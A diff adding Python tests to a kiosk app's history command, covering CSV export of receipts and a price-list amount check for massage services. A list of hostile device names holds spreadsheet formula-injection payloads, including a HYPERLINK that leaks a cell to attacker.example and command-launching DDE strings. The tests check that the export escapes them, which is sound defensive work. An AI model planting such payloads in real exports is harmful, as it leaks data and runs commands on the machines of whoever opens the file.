@@ -7,11 +7,13 @@ import io
 import json
 from typing import Any
 
-from kiosk.refbackend import DEMO_VENUE, ReferenceBackend
+from kiosk.cli._common import flow_context
 from kiosk.views import OUTCOME_WORDS
+from refbackend import DEMO_VENUE, ReferenceBackend
 
 LOCAL_KEYS = {"tx", "kind", "outcome", "amount_cents", "at", "synced"}
-EXTRA_KEYS = {"reason"}  # why a refusal happened; nothing else beyond the contract
+# why a refusal happened; what was paid for (a receipt's amount against the price list)
+EXTRA_KEYS = {"reason", "service", "amount_check", "amount_difference_cents"}
 
 
 def fill(counter: Any, refbackend: ReferenceBackend) -> dict[str, str]:
@@ -125,3 +127,119 @@ def test_bad_since_is_a_usage_error(cli: Any, counter: Any) -> None:
     code, out, err = cli("history", "--config", counter.cfg.source, "--local", "--since", "soon")
     assert (code, out) == (2, "")
     assert "--since" in err
+
+
+# --- spreadsheet formulas in the CSV export -----------------------------------------------------
+
+HOSTILE_DEVICES = (
+    '=HYPERLINK("http://attacker.example/?leak="&A1,"Open receipt")',
+    "+1+cmd|' /C calc'!A0",
+    "-2+3",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "\t=1+1",
+    "\r=1+1",
+)
+
+
+def test_backend_csv_neutralises_formulas_in_device_names(
+    cli: Any, counter: Any, refbackend: ReferenceBackend
+) -> None:
+    import uuid
+    from datetime import UTC, datetime
+
+    from kiosk.backend._wire import format_time
+    from kiosk.backend.client import BackendClient
+
+    checked_tx, token = refbackend.mint_receipt(DEMO_VENUE, 6500)
+    assert counter.scan_receipt(token).word == "checked"
+    hostile_tx: dict[str, str] = {}
+    with BackendClient.from_config(counter.cfg) as client:
+        for name in HOSTILE_DEVICES:  # other devices of the venue, as the backend names them
+            tx, token = refbackend.mint_receipt(DEMO_VENUE, 1000)
+            body = {"token": token, "venue": DEMO_VENUE, "device": name,
+                    "scanned_at": format_time(datetime.now(UTC)), "offline": False}  # fmt: skip
+            assert client.check_receipt(str(uuid.uuid4()), body).status == "checked"
+            hostile_tx[tx] = name
+    code, out, err = cli("history", "--config", counter.cfg.source, "--csv")
+    assert code == 0, err
+    rows = {r["tx"]: r for r in csv.DictReader(io.StringIO(out, newline=""))}
+    assert set(rows) == {checked_tx, *hostile_tx}
+    for tx, name in hostile_tx.items():
+        assert rows[tx]["device"] == "'" + name, rows[tx]
+        assert rows[tx]["amount_eur"] == "10.00"
+    assert rows[checked_tx]["device"] == "counter-1"  # plain text is left alone
+
+
+def test_local_csv_neutralises_a_formula_like_device_id(
+    cli: Any, counter: Any, kiosk_toml: Any, refbackend: ReferenceBackend
+) -> None:
+    from kiosk.config import load_config
+
+    desk = type(counter)(load_config(kiosk_toml(device={"id": "-2-3.A1"})), refbackend)
+    tx, token = refbackend.mint_receipt(DEMO_VENUE, 6500)
+    assert desk.scan_receipt(token).word == "checked"
+    code, out, err = cli("history", "--config", desk.cfg.source, "--local", "--csv")
+    assert code == 0, err
+    [row] = list(csv.DictReader(io.StringIO(out, newline="")))
+    assert (row["tx"], row["device"], row["amount_eur"]) == (tx, "'-2-3.A1", "65.00")
+
+
+def test_spreadsheet_text_rule() -> None:
+    from kiosk.cli.history_cmd import spreadsheet_text
+
+    for cell in ("=1+1", "+41 555", "-x", "-", "@A1", "\tx", "\rx", "-1e5", "- 3"):
+        assert spreadsheet_text(cell) == "'" + cell
+    for cell in ("65.00", "-12.50", "-3", "tx_abc", "", "counter-1", "a=b", " =1"):
+        assert spreadsheet_text(cell) == cell
+
+
+def test_local_history_carries_the_amount_check(
+    cli: Any, counter: Any, refbackend: ReferenceBackend
+) -> None:
+    with flow_context(counter.cfg) as ctx:  # the price list, as the sync worker caches it
+        assert ctx.venue.refresh(ctx.client, ctx.journal, DEMO_VENUE, now=ctx.clock())
+    ok_tx, token = refbackend.mint_receipt(DEMO_VENUE, 6500)
+    assert counter.scan_receipt(token).word == "checked"
+    off_tx, token = refbackend.mint_receipt(DEMO_VENUE, 6000)
+    assert counter.scan_receipt(token).word == "checked"
+    charged = counter.charge(refbackend.mint_paycode(10000)["code"], "sports-45")
+    code, out, _ = cli("history", "--config", counter.cfg.source, "--local", "--json")
+    assert code == 0
+    items = {i["tx"]: i for i in json.loads(out)["items"]}
+    paid_for = {
+        tx: (i["service"], i["amount_check"], i["amount_difference_cents"])
+        for tx, i in items.items()
+    }
+    assert paid_for == {
+        ok_tx: ("Klassinen hieronta 60 min", "ok", 0),
+        off_tx: ("Klassinen hieronta 60 min", "mismatch", -500),
+        charged.tx: ("Urheiluhieronta 45 min", None, None),
+    }
+    code, out, _ = cli("history", "--config", counter.cfg.source, "--local", "--csv")
+    rows = {r["tx"]: r for r in csv.DictReader(io.StringIO(out, newline=""))}
+    assert (rows[off_tx]["service"], rows[off_tx]["amount_check"]) == (
+        "Klassinen hieronta 60 min",
+        "mismatch",
+    )
+    assert rows[off_tx]["amount_difference_eur"] == "-5.00"  # a number, not neutralised
+    assert (rows[ok_tx]["amount_check"], rows[ok_tx]["amount_difference_eur"]) == ("ok", "0.00")
+    assert (rows[charged.tx]["amount_check"], rows[charged.tx]["amount_difference_eur"]) == ("", "")
+    code, out, _ = cli("history", "--config", counter.cfg.source, "--local")
+    line = next(ln for ln in out.splitlines() if off_tx in ln)
+    assert "CHECK THE AMOUNT: nearest Klassinen hieronta 60 min (-5.00)" in line
+
+
+def test_amount_check_off_records_no_match(
+    cli: Any, counter: Any, kiosk_toml: Any, refbackend: ReferenceBackend
+) -> None:
+    from kiosk.config import load_config
+
+    desk = type(counter)(load_config(kiosk_toml(counter={"amount_check": "off"})), refbackend)
+    with flow_context(desk.cfg) as ctx:
+        assert ctx.venue.refresh(ctx.client, ctx.journal, DEMO_VENUE, now=ctx.clock())
+    tx, token = refbackend.mint_receipt(DEMO_VENUE, 6000)
+    assert desk.scan_receipt(token).amount_match is None
+    code, out, _ = cli("history", "--config", desk.cfg.source, "--local", "--json")
+    assert code == 0
+    (item,) = json.loads(out)["items"]
+    assert (item["tx"], item["service"], item["amount_check"]) == (tx, None, None)
